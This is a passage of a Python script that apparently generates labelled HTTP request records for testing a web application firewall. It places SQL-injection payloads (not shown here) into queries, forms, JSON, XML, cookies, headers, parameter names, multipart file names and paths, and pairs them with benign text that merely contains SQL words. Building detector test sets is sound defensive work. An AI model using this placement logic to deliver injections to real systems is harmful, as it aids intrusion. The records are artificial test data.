    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    parts = []
    for name, filename, content in fields:
        disp = f'form-data; name="{name}"'
        ctype = ""
        if filename is not None:
            disp += f'; filename="{filename}"'
            ctype = "Content-Type: image/png\r\n"
        parts.append(f"--{boundary}\r\nContent-Disposition: {disp}\r\n{ctype}\r\n{content}\r\n")
    return f"multipart/form-data; boundary={boundary}", "".join(parts) + f"--{boundary}--\r\n"


def _is_json_object(payload: str) -> Any:
    try:
        doc = json.loads(payload)
    except ValueError:
        return None
    return doc if isinstance(doc, dict) else None


def _real(b: _Builder, place: str, payload: str, k: int) -> dict[str, Any]:
    """`payload` in one of our routes' input places."""
    page = str(1 + k % 5)
    per = ["20", "50", "100"][k % 3]
    if place == "query":
        params = [("q", payload), ("page", page), ("per_page", per)]
        if k % 2:
            params.reverse()
        return {"method": "GET", "uri": "/api/users?" + _qs(params), "body": "",
                "headers": b.browser("application/json")}
    if place == "form":
        uri = "/me/settings" if k % 7 == 3 else "/admin/users/search"
        field = "display_name" if uri == "/me/settings" else "q"
        body = urllib.parse.urlencode([("csrf_token", b.token()), (field, payload)])
        return {"method": "POST", "uri": uri, "body": body,
                "headers": {**b.browser(), "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "json":
        obj = _is_json_object(payload)
        doc: dict[str, Any] = {"name": "Dana Whitfield", "email": "dana@example.org", "department": "Finance"}
        field = JSON_FIELDS[k % len(JSON_FIELDS)]
        doc[field] = obj if obj is not None else payload
        method, uri = ("PATCH", "/api/users/42") if k % 5 == 2 else ("POST", "/api/users")
        return {"method": method, "uri": uri, "body": json.dumps(doc),
                "headers": {**b.browser("application/json"), "Content-Type": "application/json"}}
    if place == "cookie":
        h = b.browser("application/json")
        h["Cookie"] = f"session={b.token(32)}; cookie_consent=accepted; lang={urllib.parse.quote(payload, safe='')}"
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": h}
    if place.startswith("header:"):
        name = place.split(":", 1)[1]
        h = b.browser("application/json")
        if name == "Referer":
            h[name] = _hval("https://app.example.com/admin/users?id=" + payload)
        else:
            h[name] = _hval(payload)
        return {"method": "GET", "uri": f"/api/users?page={page}", "body": "", "headers": h}
    if place == "param-name":
        uri = "/api/users?" + urllib.parse.quote(payload, safe="") + "=1&page=" + page
        return {"method": "GET", "uri": uri, "body": "", "headers": b.browser("application/json")}
    if place == "xml":
        body = ('<?xml version="1.0" encoding="UTF-8"?><user><name>' + _xml_escape(payload)
                + "</name><email>dana@example.org</email></user>")
        return {"method": "POST", "uri": "/api/users", "body": body,
                "headers": {**b.browser("application/xml"), "Content-Type": "application/xml"}}
    if place == "multipart-field":
        ctype, body = _multipart([("csrf_token", None, b.token()), ("q", None, payload)])
        return {"method": "POST", "uri": "/admin/users/search", "body": body,
                "headers": {**b.browser(), "Content-Type": ctype}}
    if place == "multipart-filename":
        ctype, body = _multipart([("csrf_token", None, b.token()),
                                  ("avatar", _hval(payload).replace('"', "%22"), "\x89PNG fake image bytes")])
        return {"method": "POST", "uri": "/admin/users/42/avatar", "body": body,
                "headers": {**b.browser(), "Content-Type": ctype}}
    # path
    seg = urllib.parse.quote(payload, safe="'()*,=!:@$+;")
    return {"method": "GET", "uri": "/api/users/" + seg, "body": "", "headers": b.browser("application/json")}


def _rs(b: _Builder, place: str, payload: str, k: int) -> dict[str, Any]:
    """`payload` as a WAF regression suite sends it: a path that is not our route, an arbitrary name."""
    path = RS_PATHS[k % len(RS_PATHS)]
    param = RS_PARAMS[(k // 2) % len(RS_PARAMS)]
    h = b.scanner()
    if place == "rs-query":
        return {"method": "GET", "uri": path + "?" + _qs([(param, payload)]), "body": "", "headers": h}
    if place == "rs-form":
        return {"method": "POST", "uri": path, "body": urllib.parse.urlencode([(param, payload)]),
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-json":
        obj = _is_json_object(payload)
        return {"method": "POST", "uri": path, "body": json.dumps({param: obj if obj is not None else payload}),
                "headers": {**h, "Content-Type": "application/json"}}
    if place == "rs-xml":
        body = f'<?xml version="1.0"?><root><{param}>{_xml_escape(payload)}</{param}></root>'
        return {"method": "POST", "uri": path, "body": body, "headers": {**h, "Content-Type": "text/xml"}}
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": payload,
                "headers": {**h, "Content-Type": "application/x-www-form-urlencoded"}}
    if place == "rs-cookie":
        return {"method": "GET", "uri": path, "body": "",
                "headers": {**h, "Cookie": f"{param}={urllib.parse.quote(payload, safe='')}"}}
    name = {"rs-header:User-Agent": "User-Agent", "rs-header:Referer": "Referer"}.get(place, "X-Custom-Header")
    return {"method": "GET", "uri": path, "body": "", "headers": {**h, name: _hval(payload)}}


def _fit(place: str, payload: str, places: list[str], i: int) -> str:
    """A header or cookie place cannot carry a payload with a line break: the next place of the rotation."""
    while "\n" in payload and place.startswith(HEADER_PLACES):
        i += 1
        place = places[i % len(places)]
    return place


def attacks() -> Iterator[dict[str, Any]]:
    b = _Builder(111)
    n = 0
    k = 0
    for t, (_crs, sub, payloads) in enumerate(TITLES):
        for i, payload in enumerate(payloads):
            real = _fit(REAL[(t * 5 + i) % len(REAL)], payload, REAL, t * 5 + i)
            rs = _fit(RS[(t * 2 + i) % len(RS)], payload, RS, t * 2 + i)
            for place, rec in ((real, _real(b, real, payload, k)), (rs, _rs(b, rs, payload, k))):
                n += 1
                k += 1
                yield {**rec, "id": f"{NAME}-sqli-{n:04d}", "category": "sqli", "sub": sub,
                       "placement": place, "payload": payload}


# Benign: the same words as people type them.
CHAT = [
    "can we select a date for the union meeting? Thursday works for me",
    "I'll drop by the office around 3, order by Friday if you want the blue ones",
    "Sleep schedule is a mess after the flight, benchmark results tomorrow",
    "the information desk said the schema for the new form is in Confluence",
    "Rock 'n' roll night at O'Malley's, who's in?",
    "It's 5-10 minutes from the station, can't miss it",
    "We're hiring C# and F# devs -- DM me",
    "updated the user's guide, section 3.2 now explains the delete button",
    "100% agree, let's merge it after lunch",
    "the shutdown of the old server is scheduled for Sunday night",
    "waiting for the delay notice from the airline, flight UA 1234",
    "match against Liverpool is on Saturday, tickets in the group chat",
    "executive summary: revenue up, churn down, hiring paused",
    "use the 'Where' filter and then 'Group by' owner in the report builder",
    "Mongo meetup at 6pm, pizza provided",
    "please update the address on file, the old one is 1 Union Street",
    "the char siu at the new place is amazing",
    "select all, then copy and paste into the sheet",
    "between you and me, the launch date will slip",
    "hex keys are in the top drawer, the 4mm one is missing",
    "D'Angelo and O'Connor both confirmed for the panel",
    "Is 1 = 1 really a valid test? asked my kid about math homework",
    "Procedure for onboarding: badge, laptop, then the security training",
    "the benchmark numbers look good, 2x faster than last quarter",
    "Grant the interns access to the shared drive please",
    "Alter the slides to match the new brand colors",
    "truncate the summary to 200 characters for the newsletter",
    "the insert on page 4 of the brochure has a typo",
    "created the table for the dinner seating, 8 per table",
    "the merge request is approved, squash before merging",
    "if it's raining we'll move the picnic inside, else the park",
    "case closed, the customer confirmed the refund",
    "we use `npm run build` and then `npm test` in CI",
    "Team: ops/infra -- on-call this week is Priya",
    "price went from $10 to $12 (20% up); budget ok?",
    "the password reset email takes ~5 min to arrive",
    "Version 2.3.1 released! changelog: fixed the login redirect",
    "my handle is @dana_w, ping me anytime",
    "the exec team offsite is in Lisbon this year",
    "the declare-your-interest form closes on the 15th",
    "I'd say 'yes' -- but let's check with legal first",
    "room 2147 is the big conference room on the 2nd floor",
    "Rating: 4.5/5 -- would order from them again",
    "use \"quotes\" around exact phrases in the search box",
    "the sales table at the fair needs two more volunteers",
    "Hey team, null results in the survey mean people skipped the question",
    "running late, stuck in traffic on the I-95",
    "the MATCH function in Excel is easier than VLOOKUP for this",
    "wait for delay confirmation before rebooking",
    "the having-fun committee meets Friday",
    "TL;DR: we order pizza; everyone's happy",
    "logs rotate daily; keep 30 days",
    "Q3 plan: select 3 vendors, shortlist 1 by October",
    "the concat of first and last name should have a space",
    "Limit 1 per customer on the promo, says marketing",
    "the script tag in the CMS template broke the footer, reverted",
    "Our union rep will attend the town hall",
    "replace the toner in the 3rd floor printer please",
    "sys admin on call: Tomasz (ext. 4412)",
    "sleep(5) is what my toddler needs, not me",
]
NAMES = [
    "Siobh\u00e1n O'Neill", "D'Arcy Fitzgerald", "Connor O'Brien", "Mary-Jane Watson-Parker", "Jos\u00e9 D\u00edaz",
    "Ren\u00e9e L'Heureux", "Anne-Marie d'Aubign\u00e9", "Tom O'Malley Jr.", "Ng\u1ecdc Tr\u1ea7n", "Zo\u00eb Van Dyke",
    "Bj\u00f6rn Select", "Grace Union", "Mike Drop", "Sam Sleep", "Dee Lete", "Ben Chmark", "Ora Cle",
    "Jean-Luc Picard", "Ali Al-Hassan", "Kai O'Hara-Smith",
]
ADDRESSES = [
    "1 Union Street, Apt #4, Springfield", "221B Baker St., London NW1 6XE", "10 Downing St. (rear entrance)",
    "P.O. Box 1234, Anchorage, AK 99501", "Flat 3/2, 17 Select Road, Glasgow", "5th Ave & 42nd St, New York",
    "Unit 7-9, Shutdown Industrial Park", "Rua Augusta 100, 2\u00ba Esq., Lisboa", "12 O'Connell Bridge, Dublin",
    "Apt. 5 - 3rd floor; ring twice", "4 Rue de l'\u00c9glise, Paris", "Order Lane 99, Leeds LS1 4AB",
]
SEARCHES = [
    "o'neil", "union station", "select committee", "drop shipping", "sleep study", "benchmark report",
    "null pointer", "table tennis", "merge conflict", "order #1234", "1=1 mentoring", "C# developer",
    "grant writer", "alter ego", "execute plan", "having trouble logging in", "delete account", "between jobs",
    "group by region", "char broil grill", "information security", "d'angelo", "rock 'n' roll", "admin panel",
    "100% remote", "sales & marketing", "R&D", "Q&A session", "user@example.com", "+1 (555) 010-2233",
    "mongo", "where is my order", "case study", "wait list", "shut down", "json export",
]
DOC_URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://www.postgresql.org/docs/16/functions-datetime.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/sqlrf/SELECT.html",
    "https://www.sqlite.org/lang_select.html",
    "https://en.wikipedia.org/wiki/Union_Station_(Chicago)",
    "https://app.example.com/reports?sort=created_at&order=desc&page=2",
    "https://app.example.com/search?q=o%27neil&type=user",
    "https://shop.example.com/products?category=tables&limit=50",
    "https://blog.example.com/2024/05/benchmark-results-q2/",
    "https://docs.example.com/api/v2/users#select-fields",
]
REFERERS = [
    "https://www.google.com/search?q=union+station+parking",
    "https://app.example.com/admin/users?sort=name&order=asc",
    "https://app.example.com/reports/2024-q2?group=region",
    "https://duckduckgo.com/?q=select+committee+hearing",
    "https://app.example.com/search?q=O%27Brien",
    "https://mail.example.com/#inbox/msg-1234",
]
CLIENT_UAS = [
    CHROME_UA, FIREFOX_UA, SAFARI_UA,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Mobile Safari/537.36",
    "python-requests/2.32.3", "curl/8.8.0", "okhttp/4.12.0", "Go-http-client/2.0", "axios/1.7.2",
    "PostmanRuntime/7.39.0", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
]


def benign() -> Iterator[dict[str, Any]]:
    b = _Builder(1111)
    n = yield from chat_and_bio(CHAT + NAMES + ADDRESSES, NAME)

    def rec(kind: str, placement: str, r: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**r, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, text in enumerate(CHAT + SEARCHES):
        yield rec("search", "query", _real(b, "query", text, i))
        yield rec("search", "form", _real(b, "form", text, i))
        yield rec("prose", "multipart-field", _real(b, "multipart-field", text, i))
        yield rec("search", "rs-query", _rs(b, "rs-query", text, i))
        yield rec("prose", "rs-form", _rs(b, "rs-form", text, i))
    for i, name in enumerate(NAMES + ADDRESSES):
        yield rec("name", "json", _real(b, "json", name, i))
        yield rec("name", "xml", _real(b, "xml", name, i))
        yield rec("name", "rs-json", _rs(b, "rs-json", name, i))
        yield rec("name", "cookie", _real(b, "cookie", name, i))
    for i, url in enumerate(DOC_URLS):
        yield rec("url", "json", {"method": "POST", "uri": "/api/users", "body": json.dumps(
            {"name": "Dana", "website": url, "bio": "notes at " + url}),
            "headers": {**b.browser("application/json"), "Content-Type": "application/json"}})
        yield rec("url", "query", _real(b, "query", url, i))
    for i, ref in enumerate(REFERERS * 3):
        h = b.browser("application/json", referer=ref)
        h["User-Agent"] = CLIENT_UAS[i % len(CLIENT_UAS)]
        yield rec("header", "header", {"method": "GET", "uri": f"/api/users?page={1 + i % 4}", "body": "",
                                       "headers": h})
    for i, ua in enumerate(CLIENT_UAS * 2):
        yield rec("header", "rs-header:User-Agent", {"method": "GET", "uri": RS_PATHS[i % len(RS_PATHS)],
                                                      "body": "", "headers": {"User-Agent": ua, "Accept": "*/*"}})
    for i, name in enumerate(["Siobhan", "obrien", "dana-whitfield", "jose.diaz", "union-station", "o-neil"]):
        yield rec("path", "path", _real(b, "path", name, i))


if __name__ == "__main__":
    print_records(attacks(), benign())
